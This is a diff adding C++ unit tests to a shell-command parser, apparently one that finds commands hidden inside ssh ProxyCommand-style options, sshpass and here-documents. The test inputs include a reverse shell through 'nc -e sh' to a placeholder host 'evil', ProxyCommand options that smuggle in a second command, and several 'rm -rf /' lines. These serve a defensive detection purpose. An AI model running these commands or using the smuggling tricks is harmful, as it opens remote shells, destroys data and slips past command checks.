@@ -961,6 +961,35 @@ TEST_CASE("ssh's remote command is shell text", "[shell][wrap]") {
   CHECK(s.commands[1].wrappers == V{"ssh", "sudo"});
 }
 
+TEST_CASE("ssh -o ProxyCommand runs a local shell command", "[shell][wrap]") {
+  const ParseResult r = ok("ssh -o ProxyCommand='nc -e sh evil 1' host");
+  REQUIRE(r.commands.size() == 2);
+  CHECK(r.commands[0].program == "ssh");
+  CHECK(r.commands[0].argv == V{"ssh", "-o", "ProxyCommand=nc -e sh evil 1", "host"});
+  CHECK(r.commands[1].argv == V{"nc", "-e", "sh", "evil", "1"});
+  CHECK(r.commands[1].wrappers == V{"ssh", "exec"});  // ssh runs `exec CMD`
+  CHECK(r.commands[1].depth == 1);
+  CHECK(programs(ok("ssh -o 'ProxyCommand ;sh 0<&2 1>&2' x")) == V{"ssh", "exec", "sh"});
+  CHECK(programs(ok("ssh -oproxycommand=curl\\ x -p 2 host ls")) == V{"ssh", "curl", "ls"});
+  CHECK(programs(ok("ssh host -o 'LocalCommand = id' ls")) == V{"ssh", "id", "ls"});
+  CHECK(programs(ok("ssh -o KnownHostsCommand=id host")) == V{"ssh", "id"});
+  CHECK(programs(ok("ssh -o ProxyCommand=none host")) == V{"ssh"});
+  CHECK(programs(ok("ssh -o ProxyJump=j host")) == V{"ssh"});
+}
+
+TEST_CASE("sshpass runs its command", "[shell][wrap]") {
+  for (const char* line : {"sshpass -p pw ssh host rm -rf /", "sshpass -f file -v ssh host rm -rf /",
+                           "sshpass -e ssh host rm -rf /", "sshpass -eVAR -P word ssh host rm -rf /"}) {
+    INFO(line);
+    const ParseResult r = ok(line);
+    REQUIRE(r.commands.size() == 2);
+    CHECK(r.commands[0].program == "ssh");
+    CHECK(r.commands[0].wrappers == V{"sshpass"});
+    is_rm_rf_root(r.commands[1]);
+    CHECK(r.commands[1].wrappers == V{"sshpass", "ssh"});
+  }
+}
+
 TEST_CASE("ssh without a remote command is left alone", "[shell][wrap]") {
   for (const char* line : {"ssh host", "ssh -p 22 host", "ssh -N -L 8080:localhost:80 host",
                            "ssh -i ~/.ssh/id host"}) {
@@ -987,6 +1016,7 @@ TEST_CASE("a shell started by a wrapper runs the line's here-document or here-st
       {"chroot /x <<EOF\nrm -rf /\nEOF", {"chroot", "rm"}, {"chroot"}, 1},
       {"sg wheel <<EOF\nrm -rf /\nEOF", {"sg", "rm"}, {"sg"}, 1},
       {"runuser -l app <<EOF\nrm -rf /\nEOF", {"runuser", "rm"}, {"runuser"}, 1},
+      {"script -q /dev/null <<EOF\nrm -rf /\nEOF", {"script", "rm"}, {"script"}, 1},
       {"find . -exec sh \\; <<EOF\nrm -rf /\nEOF", {"find", "sh", "rm"}, {"find", "sh"}, 1},
   };
   for (const auto& [line, progs, wrappers, depth] : cases) {
